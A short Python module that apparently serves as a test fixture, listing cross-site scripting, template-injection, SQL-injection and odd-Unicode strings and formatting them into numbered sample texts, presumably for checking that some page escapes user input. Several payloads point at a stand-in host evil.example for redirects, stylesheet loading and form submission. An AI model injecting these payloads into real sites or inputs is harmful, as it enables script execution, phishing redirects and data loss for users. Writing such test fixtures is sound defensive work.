"""Texts by which strangers would like to be more than text on somebody's page."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    '"><script>alert({n})</script>',
    "' autofocus onfocus=alert({n}) x='",
    "javascript:alert({n})",
    "<a href=javascript:alert({n})>click {n}</a>",
    "</title></style></textarea></script><script>alert({n})</script>",
    "<style>*{{display:none}}</style>bees {n}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}} #{{alert({n})}} <%= alert({n}) %>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form action=//evil.example/{n}><button>Search</button></form>",
    "&lt;script&gt;alert({n})&lt;/script&gt; &amp;#60;b&#62;",
    "\u202egnp.tpircs\u202c bees \u2066{n}\u2069",
    "bees \U0001f41d\U0001f468‍\U0001f469‍\U0001f467 z̷̢̛a̶̡l̵g̸o {n}",
    "tab\tline\nbreak\r\n<b>{n}</b>\u2028<i>sep</i>",
    "<details open ontoggle=alert({n})>x</details><dialog open>{n}</dialog>",
    "<input name=body><img name=getElementById id=announcer src=x onerror=alert({n})>",
    "__proto__ constructor toString {n}",
    "onewordwithoutanyblankthatgoeson" * 5 + "{n}",
    "'; DROP TABLE documents; -- {n}",
)


def texts(count: int) -> list[str]:
    """So many different ones."""
    return [f"{number}: {PAYLOADS[number % len(PAYLOADS)].format(n=number)}" for number in range(count)]
